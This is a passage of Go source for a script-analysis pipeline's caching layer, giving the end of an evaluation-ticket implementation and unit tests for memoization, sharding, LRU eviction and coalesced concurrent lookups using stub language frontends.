	sh.langStatsLocked(lang).Misses++
	sh.mu.Unlock()
	v.c.insert(v.ops, snippet, bindings, values)
}

// Skip records an evaluation whose result must not be cached (impure,
// failed, or uncacheable values).
func (v *EvalView) Skip() {
	if !v.Enabled() {
		return
	}
	v.Skips++
	lang := v.ops.Name()
	sh := v.c.statsShard(lang)
	sh.mu.Lock()
	sh.skips++
	sh.langStatsLocked(lang).Skips++
	sh.mu.Unlock()
}

// EvalTicket is the resolution handle Acquire hands a leader (or a
// flight-less self-evaluator). Exactly one of Insert, Skip or Abort
// must eventually be called; all three are idempotent and nil-safe,
// so `defer t.Abort()` is a correct backstop after explicit
// resolution. Insert publishes to the cache BEFORE releasing waiters,
// so a follower's re-lookup after the flight resolves observes the
// new entry.
type EvalTicket struct {
	v       *EvalView
	snippet string
	key     evalFlightKey
	flight  *evalFlight
	done    bool
}

// Enabled reports whether a live view backs this ticket.
func (t *EvalTicket) Enabled() bool { return t != nil && t.v.Enabled() }

// resolve closes the ticket's flight (if any), releasing waiters.
func (t *EvalTicket) resolve() {
	if t == nil || t.done {
		return
	}
	t.done = true
	if t.flight == nil {
		return
	}
	t.v.c.flightMu.Lock()
	if t.v.c.flights[t.key] == t.flight {
		delete(t.v.c.flights, t.key)
	}
	t.v.c.flightMu.Unlock()
	close(t.flight.done)
}

// Insert stores the evaluation result (counted as a miss) and releases
// any coalesced waiters, who will re-lookup and hit.
func (t *EvalTicket) Insert(bindings []Binding, values []any) {
	if t == nil || t.done {
		return
	}
	t.v.Insert(t.snippet, bindings, values)
	t.resolve()
}

// Skip records an uncacheable evaluation and releases any coalesced
// waiters, who will retry as new leaders.
func (t *EvalTicket) Skip() {
	if t == nil || t.done {
		return
	}
	t.v.Skip()
	t.resolve()
}

// Abort releases waiters without recording anything — the path for a
// leader whose evaluation never completed (panic unwinding, early
// return). Waiters retry as new leaders rather than inheriting the
// aborted run's failure.
func (t *EvalTicket) Abort() { t.resolve() }
