package pipeline

import (
	"errors"
	"flag"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// -soak opts into the full-size hostile-input variants that dominate
// wall-clock time (multi-MiB adversarial text). The default suite runs
// trimmed-but-representative fast variants so `go test
// ./internal/pipeline` stays in CI-iteration territory; `make check`
// passes -soak to keep the full coverage on the tier-1 gate.
var soak = flag.Bool("soak", false, "run full-size hostile soak variants (wired into make check)")

// fakeLang is a minimal Lang stub: the pipeline is language-neutral, so
// its tests run against a fake instead of a real frontend (which would
// also create an import cycle from in-package tests). Texts containing
// "INVALID" fail to parse, preserving the memoized-failure coverage.
// Call counters are atomic so the concurrency tests can assert
// memoization (each distinct text tokenizes/parses at most once).
type fakeLang struct {
	name      string
	tokenizes atomic.Int64
	parses    atomic.Int64
}

type fakeAST struct{ text string }

func (l *fakeLang) Name() string { return l.name }

func (l *fakeLang) Tokenize(src string) (any, error) {
	l.tokenizes.Add(1)
	return strings.Fields(src), nil
}

func (l *fakeLang) Parse(src string) (any, error) {
	l.parses.Add(1)
	if strings.Contains(src, "INVALID") {
		return nil, fmt.Errorf("fakeLang: syntax error in %q", src)
	}
	return &fakeAST{text: src}, nil
}

func newFakeLang() *fakeLang { return &fakeLang{name: "fake"} }

func TestCacheParseMemoized(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	const src = "Write-Host hi"
	a1, err := c.Parse(l, src)
	if err != nil {
		t.Fatal(err)
	}
	a2, err := c.Parse(l, src)
	if err != nil {
		t.Fatal(err)
	}
	if a1 != a2 {
		t.Error("second Parse of identical text returned a different AST pointer")
	}
	if n := l.parses.Load(); n != 1 {
		t.Errorf("frontend parsed %d times, want 1", n)
	}
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 1 {
		t.Errorf("stats = %+v, want 1 hit / 1 miss", st)
	}
}

func TestCacheParseErrorsMemoized(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	const bad = "INVALID («"
	if _, err := c.Parse(l, bad); err == nil {
		t.Fatal("want a parse error")
	}
	if _, err := c.Parse(l, bad); err == nil {
		t.Fatal("want the memoized parse error")
	}
	if n := l.parses.Load(); n != 1 {
		t.Errorf("failed text re-parsed: %d calls, want 1", n)
	}
	st := c.Stats()
	if st.Hits != 1 {
		t.Errorf("failed parse was not memoized: %+v", st)
	}
	if c.Valid(l, bad) {
		t.Error("Valid(bad) = true")
	}
	if !c.Valid(l, "Write-Host ok") {
		t.Error("Valid(good) = false")
	}
}

func TestCacheTokenizeMemoized(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	const src = "Write-Host hi"
	t1, err := c.Tokenize(l, src)
	if err != nil {
		t.Fatal(err)
	}
	t2, err := c.Tokenize(l, src)
	if err != nil {
		t.Fatal(err)
	}
	if len(t1.([]string)) == 0 || len(t2.([]string)) != len(t1.([]string)) {
		t.Errorf("token artifacts differ: %v vs %v", t1, t2)
	}
	if n := l.tokenizes.Load(); n != 1 {
		t.Errorf("frontend tokenized %d times, want 1", n)
	}
	if st := c.Stats(); st.Hits != 1 || st.Misses != 1 {
		t.Errorf("stats = %+v, want 1 hit / 1 miss", st)
	}
}

func TestCacheNilLang(t *testing.T) {
	c := NewCache(0, 0)
	if _, err := c.Parse(nil, "x"); !errors.Is(err, ErrNoLang) {
		t.Errorf("Parse(nil) err = %v, want ErrNoLang", err)
	}
	if _, err := c.Tokenize(nil, "x"); !errors.Is(err, ErrNoLang) {
		t.Errorf("Tokenize(nil) err = %v, want ErrNoLang", err)
	}
	if c.Valid(nil, "x") {
		t.Error("Valid(nil lang) = true")
	}
}

// TestCacheLangNamespacing is the regression test for frontend-keyed
// caching: identical bytes submitted under two different languages must
// occupy two distinct entries and never serve each other's artifacts.
func TestCacheLangNamespacing(t *testing.T) {
	c := NewCache(0, 0)
	ps := &fakeLang{name: "powershell"}
	js := &fakeLang{name: "javascript"}
	const src = "shared bytes, different language"
	a1, err := c.Parse(ps, src)
	if err != nil {
		t.Fatal(err)
	}
	a2, err := c.Parse(js, src)
	if err != nil {
		t.Fatal(err)
	}
	if a1 == a2 {
		t.Error("identical bytes under two languages shared one artifact")
	}
	if got := c.Entries(); got != 2 {
		t.Errorf("entries = %d, want 2 (one per language)", got)
	}
	// Both were first requests for their language: two global misses.
	if st := c.Stats(); st.Hits != 0 || st.Misses != 2 {
		t.Errorf("stats = %+v, want 0 hits / 2 misses", st)
	}
	// Each language hits only its own entry.
	if _, err := c.Parse(ps, src); err != nil {
		t.Fatal(err)
	}
	ls := c.LangStats()
	if got := ls["powershell"]; got.Hits != 1 || got.Misses != 1 {
		t.Errorf("powershell lang stats = %+v, want 1 hit / 1 miss", got)
	}
	if got := ls["javascript"]; got.Hits != 0 || got.Misses != 1 {
		t.Errorf("javascript lang stats = %+v, want 0 hits / 1 miss", got)
	}
	if got := ls["powershell"].HitRate(); got != 0.5 {
		t.Errorf("powershell hit rate = %v, want 0.5", got)
	}
	if ps.parses.Load() != 1 || js.parses.Load() != 1 {
		t.Errorf("parse calls = ps %d / js %d, want 1 each", ps.parses.Load(), js.parses.Load())
	}
}

func TestCacheEntryBound(t *testing.T) {
	c := NewCache(4, 0)
	l := newFakeLang()
	for i := 0; i < 20; i++ {
		c.Parse(l, fmt.Sprintf("Write-Host %d", i))
	}
	st := c.Stats()
	if st.Entries > 4 {
		t.Errorf("entries = %d, want <= 4", st.Entries)
	}
	if st.Evictions != 16 {
		t.Errorf("evictions = %d, want 16", st.Evictions)
	}
}

func TestCacheByteBound(t *testing.T) {
	// 64-byte budget: each ~40-byte script evicts its predecessor.
	c := NewCache(0, 64)
	l := newFakeLang()
	for i := 0; i < 10; i++ {
		c.Parse(l, fmt.Sprintf("Write-Host %030d", i))
	}
	st := c.Stats()
	if st.Bytes > 64 {
		t.Errorf("bytes = %d, want <= 64", st.Bytes)
	}
	if st.Evictions == 0 {
		t.Error("no evictions under a 64-byte budget")
	}
	// Evicted texts still parse correctly (re-inserted as new entries).
	if _, err := c.Parse(l, fmt.Sprintf("Write-Host %030d", 0)); err != nil {
		t.Fatal(err)
	}
}

func TestCacheConcurrent(t *testing.T) {
	c := NewCache(64, 0)
	l := newFakeLang()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				src := fmt.Sprintf("Write-Host %d", i%32)
				if _, err := c.Parse(l, src); err != nil {
					t.Errorf("worker %d: %v", w, err)
					return
				}
				c.Tokenize(l, src)
				c.Valid(l, "INVALID («") // memoized failure
			}
		}(w)
	}
	wg.Wait()
	st := c.Stats()
	if st.Hits+st.Misses == 0 {
		t.Error("no traffic recorded")
	}
}

func TestViewAccounting(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	v1, v2 := c.View(l), c.View(l)
	v1.Parse("Write-Host shared") // miss (global), miss (v1)
	v2.Parse("Write-Host shared") // hit (global), but v2's own first request
	if v1.Misses != 1 || v1.Hits != 0 {
		t.Errorf("v1 = %d hits / %d misses, want 0/1", v1.Hits, v1.Misses)
	}
	if v2.Hits != 1 || v2.Misses != 0 {
		t.Errorf("v2 = %d hits / %d misses, want 1/0", v2.Hits, v2.Misses)
	}
	if v1.Cache() != c || v2.Cache() != c {
		t.Error("View.Cache() should return the shared cache")
	}
	if v1.Lang() != Lang(l) {
		t.Error("View.Lang() should return the bound language")
	}
}

func TestDocumentSetTextRevertHitsCache(t *testing.T) {
	c := NewCache(0, 0)
	doc := NewDocument("Write-Host original", c.View(newFakeLang()))
	if _, err := doc.AST(); err != nil {
		t.Fatal(err)
	}
	doc.SetText("Write-Host rewritten")
	if _, err := doc.AST(); err != nil {
		t.Fatal(err)
	}
	// Revert: the original's artifacts must come back from cache.
	doc.SetText("Write-Host original")
	if _, err := doc.AST(); err != nil {
		t.Fatal(err)
	}
	if v := doc.View(); v.Hits != 1 || v.Misses != 2 {
		t.Errorf("view = %d hits / %d misses, want 1/2", v.Hits, v.Misses)
	}
}

func TestDocumentForkSharesView(t *testing.T) {
	c := NewCache(0, 0)
	doc := NewDocument("Write-Host outer", c.View(newFakeLang()))
	if _, err := doc.AST(); err != nil {
		t.Fatal(err)
	}
	fork := doc.Fork("Write-Host outer") // payload identical to parent
	if fork.View() != doc.View() {
		t.Error("fork should share the parent's cache view")
	}
	if _, err := fork.AST(); err != nil {
		t.Fatal(err)
	}
	if v := doc.View(); v.Hits != 1 {
		t.Errorf("fork parse of identical text should hit: %d hits / %d misses", v.Hits, v.Misses)
	}
	if doc.Text() != "Write-Host outer" || fork.Len() != len("Write-Host outer") {
		t.Error("fork must not disturb the parent's text")
	}
}

func TestDocumentWithoutLang(t *testing.T) {
	doc := NewDocument("anything", nil)
	if _, err := doc.AST(); !errors.Is(err, ErrNoLang) {
		t.Errorf("AST() err = %v, want ErrNoLang", err)
	}
	if _, err := doc.Tokens(); !errors.Is(err, ErrNoLang) {
		t.Errorf("Tokens() err = %v, want ErrNoLang", err)
	}
	if doc.Valid() {
		t.Error("langless document reports valid")
	}
}

func TestTraceAggregation(t *testing.T) {
	tr := NewTrace()
	tr.Record("token", 2*time.Millisecond, 2*time.Millisecond, 100, 90, 1, 3, 2, 0, 0, 0)
	tr.Record("ast", time.Millisecond, time.Millisecond/2, 90, 50, 0, 5, 1, 2, 1, 1)
	tr.Record("token", time.Millisecond, time.Millisecond, 50, 40, 2, 1, 0, 0, 0, 0)
	stats := tr.Stats()
	if len(stats) != 2 {
		t.Fatalf("got %d pass stats", len(stats))
	}
	tok := stats[0]
	if tok.Pass != "token" {
		t.Fatalf("first-run order broken: %q first", tok.Pass)
	}
	if tok.Runs != 2 || tok.Duration != 3*time.Millisecond || tok.Reverts != 3 {
		t.Errorf("token aggregate = %+v", tok)
	}
	if tok.SelfDuration != 3*time.Millisecond {
		t.Errorf("token self-duration = %v, want 3ms", tok.SelfDuration)
	}
	if ast := stats[1]; ast.SelfDuration != time.Millisecond/2 {
		t.Errorf("ast self-duration = %v, want 0.5ms", ast.SelfDuration)
	}
	if tok.BytesIn != 100 || tok.BytesOut != 40 {
		t.Errorf("token bytes = in %d out %d, want first-in 100 / last-out 40", tok.BytesIn, tok.BytesOut)
	}
	if tok.CacheHits != 4 || tok.CacheMisses != 2 {
		t.Errorf("token cache = %d/%d", tok.CacheHits, tok.CacheMisses)
	}
	ast := stats[1]
	if ast.EvalHits != 2 || ast.EvalMisses != 1 || ast.EvalSkips != 1 {
		t.Errorf("ast eval cache = %d/%d/%d", ast.EvalHits, ast.EvalMisses, ast.EvalSkips)
	}
}

func TestRunnerRecordsPassExecution(t *testing.T) {
	c := NewCache(0, 0)
	doc := NewDocument("Write-Host before", c.View(newFakeLang()))
	r := NewRunner(nil)
	pass := NewPass("demo", func(pc *PassContext) error {
		if _, err := pc.Doc.AST(); err != nil { // one cache miss
			return err
		}
		pc.Doc.SetText("Write-Host after!")
		pc.Reverts++
		return nil
	})
	pc := &PassContext{Doc: doc}
	if err := r.Run(pass, pc); err != nil {
		t.Fatal(err)
	}
	stats := r.Trace().Stats()
	if len(stats) != 1 {
		t.Fatalf("got %d stats", len(stats))
	}
	st := stats[0]
	if st.Pass != "demo" || st.Runs != 1 || st.Reverts != 1 {
		t.Errorf("stat = %+v", st)
	}
	if st.BytesIn != len("Write-Host before") || st.BytesOut != len("Write-Host after!") {
		t.Errorf("bytes = %d -> %d", st.BytesIn, st.BytesOut)
	}
	if st.CacheMisses != 1 {
		t.Errorf("cache misses = %d, want 1", st.CacheMisses)
	}
	// Errors propagate unwrapped.
	boom := errors.New("boom")
	bad := NewPass("bad", func(*PassContext) error { return boom })
	if err := r.Run(bad, pc); !errors.Is(err, boom) {
		t.Errorf("err = %v", err)
	}
}

func TestOversizeTextBypassesCache(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	big := "Write-Host " + strings.Repeat("a", maxCacheableText+1)
	// Oversize text must not enter the cache (would evict everything)...
	if _, err := c.Tokenize(l, big); err != nil {
		t.Fatal(err)
	}
	if st := c.Stats(); st.Entries != 0 {
		t.Errorf("oversize text was cached: %+v", st)
	}
	// ...and must not be counted as a hit: the bypass is a miss.
	if st := c.Stats(); st.Hits != 0 || st.Misses != 1 {
		t.Errorf("bypass accounting = %+v, want 0 hits / 1 miss", st)
	}
	// The bypass still delegates to the frontend each time.
	c.Tokenize(l, big)
	if n := l.tokenizes.Load(); n != 2 {
		t.Errorf("bypass tokenize calls = %d, want 2", n)
	}
}

// TestOversizeHostileTextSoak is the full-size variant over hostile
// content (NUL bytes). With a stub Lang it is no longer minutes of
// work, but it keeps the multi-MiB allocation path exercised under
// -soak (make check).
func TestOversizeHostileTextSoak(t *testing.T) {
	if !*soak {
		t.Skip("multi-MiB hostile input; run with -soak (make check)")
	}
	if testing.Short() {
		t.Skip("skipping soak in -short mode")
	}
	c := NewCache(0, 0)
	big := "Write-Host " + string(make([]byte, maxCacheableText+1))
	c.Tokenize(newFakeLang(), big)
	if st := c.Stats(); st.Entries != 0 {
		t.Errorf("oversize hostile text was cached: %+v", st)
	}
}

func TestCacheStatsHitRate(t *testing.T) {
	if (CacheStats{}).HitRate() != 0 {
		t.Error("zero-traffic parse hit rate should be 0")
	}
	if got := (CacheStats{Hits: 3, Misses: 1}).HitRate(); got != 0.75 {
		t.Errorf("parse hit rate = %v, want 0.75", got)
	}
	if (LangCacheStats{}).HitRate() != 0 {
		t.Error("zero-traffic per-lang parse hit rate should be 0")
	}
	if (EvalCacheStats{}).HitRate() != 0 {
		t.Error("zero-traffic eval hit rate should be 0")
	}
	// Skips must not dilute the eval rate.
	if got := (EvalCacheStats{Hits: 1, Misses: 1, Skips: 100}).HitRate(); got != 0.5 {
		t.Errorf("eval hit rate = %v, want 0.5", got)
	}
	if got := (LangEvalStats{Hits: 1, Misses: 1, Skips: 9}).HitRate(); got != 0.5 {
		t.Errorf("per-lang eval hit rate = %v, want 0.5", got)
	}
}
