package pipeline

// Tests for the sharded, coalescing, warm-restart cache tier: shard
// resolution, LRU recency, singleflight exactly-once and poison-safety,
// eval-flight coalescing (including the canceled-leader retry rule),
// snapshot encode/decode round trips, and corruption handling.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestShardCountResolution(t *testing.T) {
	cases := []struct {
		requested, maxEntries int
		maxBytes              int64
		wantMax               int // resolved count must be <= this and a power of two
		wantExact             int // 0 = only check bounds/pow2
	}{
		// Tiny bounds collapse to one shard so exact-eviction semantics
		// (and tests pinned to them) are preserved.
		{0, 4, DefaultMaxBytes, 0, 1},
		{0, DefaultMaxEntries, 64, 0, 1},
		// Explicit counts round up to a power of two and cap at 256.
		{3, DefaultMaxEntries, DefaultMaxBytes, 256, 4},
		{1000, 1 << 20, 1 << 30, 256, 256},
		// Default bounds allow striping.
		{0, DefaultMaxEntries, DefaultMaxBytes, 256, 0},
	}
	for _, tc := range cases {
		got := shardCount(tc.requested, tc.maxEntries, tc.maxBytes)
		if got < 1 || got&(got-1) != 0 {
			t.Errorf("shardCount(%d, %d, %d) = %d, not a positive power of two",
				tc.requested, tc.maxEntries, tc.maxBytes, got)
		}
		if tc.wantExact != 0 && got != tc.wantExact {
			t.Errorf("shardCount(%d, %d, %d) = %d, want %d",
				tc.requested, tc.maxEntries, tc.maxBytes, got, tc.wantExact)
		}
		if tc.wantMax != 0 && got > tc.wantMax {
			t.Errorf("shardCount(%d, %d, %d) = %d, want <= %d",
				tc.requested, tc.maxEntries, tc.maxBytes, got, tc.wantMax)
		}
	}
}

// TestCacheShardedLangNamespacing is the sharding regression for the
// cross-language invariant: identical bytes under two languages hash
// to (possibly) different shards yet must stay two distinct entries
// with per-language stats intact — exactly the single-mutex semantics.
func TestCacheShardedLangNamespacing(t *testing.T) {
	c := NewCacheSharded(0, 0, 64)
	ps := &fakeLang{name: "powershell"}
	js := &fakeLang{name: "javascript"}
	const src = "shared-bytes('x')"
	if _, err := c.Parse(ps, src); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Parse(js, src); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Parse(ps, src); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Parse(js, src); err != nil {
		t.Fatal(err)
	}
	if got := c.Entries(); got != 2 {
		t.Errorf("identical bytes under two langs: %d entries, want 2", got)
	}
	if ps.parses.Load() != 1 || js.parses.Load() != 1 {
		t.Errorf("parse counts ps=%d js=%d, want 1 each", ps.parses.Load(), js.parses.Load())
	}
	byLang := c.LangStats()
	for _, lang := range []string{"powershell", "javascript"} {
		ls := byLang[lang]
		if ls.Hits != 1 || ls.Misses != 1 {
			t.Errorf("%s stats = %+v, want 1 hit / 1 miss", lang, ls)
		}
		if ls.HitRate() != 0.5 {
			t.Errorf("%s hit rate = %v, want 0.5", lang, ls.HitRate())
		}
	}
	occ := c.ShardOccupancy()
	if len(occ) != c.ShardCount() {
		t.Fatalf("occupancy has %d slots, want %d", len(occ), c.ShardCount())
	}
	total := 0
	for _, n := range occ {
		total += n
	}
	if total != 2 {
		t.Errorf("shard occupancy sums to %d, want 2", total)
	}
}

func TestCacheLRUEvictionOrder(t *testing.T) {
	// Single shard so the recency order is directly observable.
	c := NewCacheSharded(3, 0, 1)
	l := newFakeLang()
	for _, s := range []string{"a", "b", "c"} {
		if _, err := c.Parse(l, s); err != nil {
			t.Fatal(err)
		}
	}
	// Touch "a": under LRU it survives the next eviction; under the old
	// FIFO it would have been the first victim.
	if _, err := c.Parse(l, "a"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Parse(l, "d"); err != nil { // evicts "b"
		t.Fatal(err)
	}
	parsesBefore := l.parses.Load()
	if _, err := c.Parse(l, "a"); err != nil {
		t.Fatal(err)
	}
	if l.parses.Load() != parsesBefore {
		t.Error("recently-used entry was evicted (FIFO behavior); want LRU")
	}
	if _, err := c.Parse(l, "b"); err != nil {
		t.Fatal(err)
	}
	if l.parses.Load() != parsesBefore+1 {
		t.Error("least-recently-used entry was not the eviction victim")
	}
}

// slowLang blocks inside Parse until released, and counts entries so
// the coalescing tests can assert exactly-once computation.
type slowLang struct {
	name    string
	gate    chan struct{} // Parse blocks receiving from gate (nil = no block)
	parses  atomic.Int64
	panicIn atomic.Int64 // panic while > 0, decrementing per call
}

func (l *slowLang) Name() string                     { return l.name }
func (l *slowLang) Tokenize(src string) (any, error) { return src, nil }
func (l *slowLang) Parse(src string) (any, error) {
	l.parses.Add(1)
	if l.panicIn.Load() > 0 {
		l.panicIn.Add(-1)
		panic("slowLang: injected parser panic")
	}
	if l.gate != nil {
		<-l.gate
	}
	return "ast:" + src, nil
}

// TestCacheHotKeyCoalescedExactlyOnce hammers one hot key from many
// goroutines while a churn stream floods distinct keys, asserting the
// hot key is parsed exactly once per generation and memory stays
// bounded. Run under -race this is also the data-race gate for the
// shard/slot protocol.
func TestCacheHotKeyCoalescedExactlyOnce(t *testing.T) {
	const (
		workers    = 16
		churnKeys  = 512
		maxEntries = 128
	)
	c := NewCacheSharded(maxEntries, 0, 8)
	hot := &slowLang{name: "hot", gate: make(chan struct{})}
	churn := newFakeLang()

	var wg sync.WaitGroup
	hotResults := make([]any, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			ast, err := c.Parse(hot, "the-one-hot-key")
			if err != nil {
				t.Errorf("hot parse: %v", err)
			}
			hotResults[w] = ast
		}(w)
	}
	// Churn concurrently with the blocked hot-key computation: evictions
	// in other entries must not disturb the in-flight singleflight.
	var churnWG sync.WaitGroup
	for w := 0; w < 4; w++ {
		churnWG.Add(1)
		go func(w int) {
			defer churnWG.Done()
			for i := 0; i < churnKeys; i++ {
				if _, err := c.Parse(churn, fmt.Sprintf("churn-%d-%d", w, i)); err != nil {
					t.Errorf("churn parse: %v", err)
				}
			}
		}(w)
	}
	churnWG.Wait()
	close(hot.gate) // release the hot-key leader
	wg.Wait()

	if n := hot.parses.Load(); n != 1 {
		t.Errorf("hot key parsed %d times across %d concurrent requests, want exactly 1", n, workers)
	}
	for _, ast := range hotResults {
		if ast != "ast:the-one-hot-key" {
			t.Errorf("hot result = %v, want shared artifact", ast)
		}
	}
	st := c.Stats()
	if st.Entries > maxEntries {
		t.Errorf("entries = %d after churn, want <= %d", st.Entries, maxEntries)
	}
	if st.CoalescedWaits == 0 {
		t.Error("no coalesced waits recorded despite concurrent requests on a blocked key")
	}
}

// TestCacheLeaderPanicDoesNotPoison injects a parser panic into the
// singleflight leader and asserts (a) the panic propagates to the
// leader alone and (b) the slot resets so a later request recomputes
// instead of inheriting a poisoned artifact.
func TestCacheLeaderPanicDoesNotPoison(t *testing.T) {
	c := NewCacheSharded(0, 0, 1)
	l := &slowLang{name: "panicky"}
	l.panicIn.Store(1)
	func() {
		defer func() {
			if recover() == nil {
				t.Error("leader did not observe its own parser panic")
			}
		}()
		c.Parse(l, "boom")
	}()
	ast, err := c.Parse(l, "boom")
	if err != nil || ast != "ast:boom" {
		t.Fatalf("retry after leader panic: ast=%v err=%v, want recomputed artifact", ast, err)
	}
	if n := l.parses.Load(); n != 2 {
		t.Errorf("parse called %d times, want 2 (panicked once, recomputed once)", n)
	}
}

func TestCachePreloadAndWarmHits(t *testing.T) {
	c := NewCache(0, 0)
	l := newFakeLang()
	if !c.Preload(l, "warm me") {
		t.Fatal("Preload returned false on a fresh entry")
	}
	st := c.Stats()
	if st.Hits != 0 || st.Misses != 0 {
		t.Errorf("Preload counted traffic: %+v, want 0 hits / 0 misses", st)
	}
	if st.Warmed != 1 {
		t.Errorf("Warmed = %d, want 1", st.Warmed)
	}
	parsesAfterPreload := l.parses.Load()
	if _, err := c.Parse(l, "warm me"); err != nil {
		t.Fatal(err)
	}
	if l.parses.Load() != parsesAfterPreload {
		t.Error("Parse after Preload re-derived the artifact")
	}
	st = c.Stats()
	if st.Hits != 1 || st.WarmHits != 1 {
		t.Errorf("stats after warm hit = %+v, want Hits=1 WarmHits=1", st)
	}
	// Preloading a live entry is a no-op, not a reset.
	if c.Preload(l, "warm me") {
		t.Error("Preload overwrote a live entry")
	}
}

func TestEvalAcquireCoalescesToOneEvaluation(t *testing.T) {
	const workers = 12
	c := NewEvalCache(0, 0)
	ops := testOps()
	noVars := func(string) (string, bool) { return "", false }

	var evaluations atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			v := c.View(ops)
			out, hit, ticket := v.Acquire(context.Background(), "wave snippet", noVars)
			if hit {
				if len(out) != 1 || out[0] != "result" {
					t.Errorf("coalesced hit = %v, want [result]", out)
				}
				return
			}
			evaluations.Add(1)
			time.Sleep(2 * time.Millisecond) // widen the in-flight window
			ticket.Insert(nil, []any{"result"})
		}()
	}
	wg.Wait()
	if n := evaluations.Load(); n != 1 {
		t.Errorf("%d evaluations for one distinct snippet across %d goroutines, want 1", n, workers)
	}
	st := c.Stats()
	if st.Hits != workers-1 || st.Misses != 1 {
		t.Errorf("stats = %+v, want %d hits / 1 miss", st, workers-1)
	}
	if st.CoalescedWaits == 0 {
		t.Error("no coalesced waits recorded")
	}
}

// TestEvalAcquireSkipPromotesWaiters: when the leader's evaluation is
// uncacheable (Skip), waiters must not inherit that outcome — each
// retries as the next leader.
func TestEvalAcquireSkipPromotesWaiters(t *testing.T) {
	c := NewEvalCache(0, 0)
	ops := testOps()
	noVars := func(string) (string, bool) { return "", false }

	v1 := c.View(ops)
	_, hit, lead := v1.Acquire(context.Background(), "impure", noVars)
	if hit || lead == nil {
		t.Fatal("first Acquire should lead")
	}
	followerDone := make(chan *EvalTicket)
	go func() {
		v2 := c.View(ops)
		_, hit, ticket := v2.Acquire(context.Background(), "impure", noVars)
		if hit {
			t.Error("follower hit after leader skip; skip must not publish a result")
		}
		followerDone <- ticket
	}()
	// Give the follower time to park on the flight, then skip.
	time.Sleep(5 * time.Millisecond)
	lead.Skip()
	ticket := <-followerDone
	if ticket == nil {
		t.Fatal("follower was not promoted to leader after skip")
	}
	ticket.Insert(nil, []any{"second try"})
	out, ok := c.View(ops).Lookup("impure", noVars)
	if !ok || out[0] != "second try" {
		t.Fatalf("promoted leader's insert not visible: %v ok=%t", out, ok)
	}
}

// TestEvalAcquireCanceledWaiterComputesItself is the queued-request
// bugfix: a waiter whose own context is done must stop waiting on the
// (possibly canceled) leader and evaluate under its own envelope —
// never inherit the leader's ErrCanceled.
func TestEvalAcquireCanceledWaiterComputesItself(t *testing.T) {
	c := NewEvalCache(0, 0)
	ops := testOps()
	noVars := func(string) (string, bool) { return "", false }

	v1 := c.View(ops)
	_, _, lead := v1.Acquire(context.Background(), "contested", noVars)
	if lead == nil {
		t.Fatal("first Acquire should lead")
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // the waiter's admission context is already gone
	v2 := c.View(ops)
	done := make(chan *EvalTicket, 1)
	go func() {
		_, hit, ticket := v2.Acquire(ctx, "contested", noVars)
		if hit {
			t.Error("canceled waiter reported a hit")
		}
		done <- ticket
	}()
	var ticket *EvalTicket
	select {
	case ticket = <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("canceled waiter stayed blocked on the leader's flight")
	}
	if ticket == nil {
		t.Fatal("canceled waiter got no ticket; it must be able to compute itself")
	}
	// The waiter evaluates itself; its insert must not tear down the
	// leader's flight, and both resolutions must coexist.
	ticket.Insert(nil, []any{"self-computed"})
	lead.Insert(nil, []any{"leader"})
	if out, ok := c.View(ops).Lookup("contested", noVars); !ok || len(out) != 1 {
		t.Fatalf("lookup after both inserts: %v ok=%t", out, ok)
	}
}

func TestEvalTicketResolutionIdempotent(t *testing.T) {
	c := NewEvalCache(0, 0)
	v := c.View(testOps())
	noVars := func(string) (string, bool) { return "", false }
	_, _, ticket := v.Acquire(context.Background(), "once", noVars)
	ticket.Insert(nil, []any{"x"})
	ticket.Skip()  // must be a no-op
	ticket.Abort() // must be a no-op
	if v.Misses != 1 || v.Skips != 0 {
		t.Errorf("view = %d misses / %d skips after redundant resolutions, want 1 / 0", v.Misses, v.Skips)
	}
	// Nil tickets (disabled views) are safe everywhere.
	var nilTicket *EvalTicket
	nilTicket.Insert(nil, nil)
	nilTicket.Skip()
	nilTicket.Abort()
	if nilTicket.Enabled() {
		t.Error("nil ticket reports enabled")
	}
}

func TestEvalCacheShardedLangNamespacing(t *testing.T) {
	c := NewEvalCacheSharded(0, 0, 64)
	ps := c.View(fakeOps{name: "powershell"})
	js := c.View(fakeOps{name: "javascript"})
	noVars := func(string) (string, bool) { return "", false }
	const snippet = "'same bytes'"
	ps.Insert(snippet, nil, []any{"ps-result"})
	js.Insert(snippet, nil, []any{"js-result"})
	if got := c.Stats().Entries; got != 2 {
		t.Errorf("identical snippet under two langs: %d entries, want 2", got)
	}
	if out, ok := ps.Lookup(snippet, noVars); !ok || out[0] != "ps-result" {
		t.Errorf("powershell lookup = %v ok=%t", out, ok)
	}
	if out, ok := js.Lookup(snippet, noVars); !ok || out[0] != "js-result" {
		t.Errorf("javascript lookup = %v ok=%t", out, ok)
	}
	byLang := c.LangStats()
	for _, lang := range []string{"powershell", "javascript"} {
		if ls := byLang[lang]; ls.Hits != 1 || ls.Misses != 1 {
			t.Errorf("%s stats = %+v, want 1 hit / 1 miss", lang, ls)
		}
	}
}

func TestEvalPreloadAndSnapshotSnippets(t *testing.T) {
	c := NewEvalCache(0, 0)
	ops := testOps()
	if !c.PreloadEval(ops, "'warm'", []any{"warm"}) {
		t.Fatal("PreloadEval refused a fresh zero-binding entry")
	}
	st := c.Stats()
	if st.Hits != 0 || st.Misses != 0 || st.Warmed != 1 {
		t.Errorf("stats after preload = %+v, want no traffic, Warmed=1", st)
	}
	v := c.View(ops)
